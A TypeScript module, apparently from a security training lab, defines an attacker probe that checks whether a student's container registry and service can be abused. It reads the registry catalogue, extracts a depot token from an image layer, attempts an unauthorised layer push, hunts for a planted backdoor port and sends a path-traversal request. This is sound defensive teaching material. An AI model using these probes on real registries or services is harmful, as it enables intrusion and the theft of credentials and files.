import { joined, type LabProbe, type Message, msg, type Params, verbatim } from '../../contract/index.ts'
import { inspectContainer } from '../shared/containers.ts'
import { outcomeInWords, reduceOutcome } from '../shared/evidence.ts'
import {
  attemptRun,
  refused,
  succeeded,
  untried,
  type Attacker,
  type Ending,
  type Step,
} from '../shared/attempt.ts'
import { programOf } from './component.ts'
import { seeTags } from './observe-storage.ts'
import { INSIDE_PORT } from './params.ts'

export const attempt = {
  title: msg`Help yourself`,
  description: msg`As anybody on the network: read the catalogue, take the depot’s token out of an image, offer the registry a layer, look for a second door in the service, and ask it for a file that is none of your business.`,
  run: attemptRun('images', attack),
}

async function attack({ lab, params, step }: Attacker): Promise<Ending> {
  const page = await lab.host('registry').connect({ ...serviceOf(params), path: '/' })
  if (page.kind !== 'answered')
    return untried(msg`${params.service ?? ''} has to run first: ${outcomeInWords(reduceOutcome(page))}.`)
  const got = [
    ...(await fromRegistry(lab, params, step)),
    ...(await fromBackdoor(lab, params, step)),
    ...(await fromFlaw(lab, params, step)),
  ]
  return got.length > 0
    ? succeeded(msg`Without any right to it, one could ${joined(got)}.`)
    : refused(msg`The registry told nothing and took nothing, and the service did its work and nothing else.`)
}

const serviceOf = (params: Params) => ({
  host: params.masterAddress ?? 'master',
  port: Number(params.servicePort),
})

/** With and without TLS, and without looking whose certificate it is: who steals does not mind. */
async function fromRegistry(lab: LabProbe, params: Params, step: Step): Promise<Message[]> {
  const { service = '', depotToken = '?', registryAddress = 'registry', registryPort = '' } = params
  const blob = (await seeTags(lab.host('registry'), params))[0]?.config ?? 'sha256:0'
  const repository = `/v2/house/${service}`
  const mount = `${repository}/blobs/uploads/?mount=${blob}&from=house/${service}`
  const tries = [
    { what: msg`read the catalogue`, method: 'GET', path: '/v2/_catalog', sign: 'repositories' },
    {
      what: msg`read the depot's token in an image`,
      method: 'GET',
      path: `${repository}/blobs/${blob}`,
      sign: depotToken,
    },
    { what: msg`push`, method: 'POST', path: mount, sign: '' },
  ] as const
  const got: Message[] = []
  for (const { what, method, path, sign } of tries) {
    for (const tls of [undefined, {}]) {
      const outcome = await lab.host('master').connect({
        host: registryAddress,
        port: Number(registryPort),
        method,
        path,
        tls,
      })
      const isIn = outcome.kind === 'answered' && outcome.status < 300 && outcome.body.includes(sign)
      const told = sign !== '' && isIn ? msg`There it is: ${sign}` : outcomeInWords(reduceOutcome(outcome))
      step(tls ? msg`${method} ${path} over TLS` : verbatim(`${method} ${path}`), told, isIn)
      if (!isIn) continue
      got.push(what)
      break
    }
  }
  return got
}

/** At what is published, from the other host; and from master itself at the container's own address. */
async function fromBackdoor(
  lab: LabProbe,
  { service = '', masterAddress = 'master', backdoorPort = '', backdoorWord = '?' }: Params,
  step: Step,
): Promise<Message[]> {
  const container = await inspectContainer(lab.host('master'), service)
  const { Ports, Networks } = container?.NetworkSettings ?? { Ports: null, Networks: null }
  const published = Object.entries(Ports ?? {})
    .filter(([inside]) => inside !== `${INSIDE_PORT}/tcp`)
    .flatMap(([, bindings]) => bindings ?? [])
    .filter(({ HostIp }) => !HostIp.includes(':'))
    .map(({ HostPort }) => ({
      from: 'registry',
      host: masterAddress,
      port: Number(HostPort),
    }))
  const own = Object.values(Networks ?? {})
    .filter(({ IPAddress }) => IPAddress !== '')
    .map(({ IPAddress }) => ({ from: 'master', host: IPAddress, port: Number(backdoorPort) }))
  for (const { from, host, port } of [...published, ...own].slice(0, 4)) {
    const outcome = await lab.host(from).connect({ host, port, path: '/', timeoutMs: 2000 })
    const isIn = outcome.kind === 'answered' && outcome.body.includes(backdoorWord)
    step(msg`From ${from}: GET / at ${host}:${port}`, outcomeInWords(reduceOutcome(outcome)), isIn)
    if (isIn) return [msg`come in by a door that somebody else built`]
  }
  return []
}

async function fromFlaw(lab: LabProbe, params: Params, step: Step): Promise<Message[]> {
  const { pageWord = '?' } = params
  const path = `${programOf(params).slice('/srv/www'.length)}?../www/index.html`
  const outcome = await lab.host('registry').connect({ ...serviceOf(params), path })
  const isIn = outcome.kind === 'answered' && outcome.body.includes(pageWord)
  step(msg`GET ${path}`, outcomeInWords(reduceOutcome(outcome)), isIn)
  return isIn ? [msg`read the service's files`] : []
}
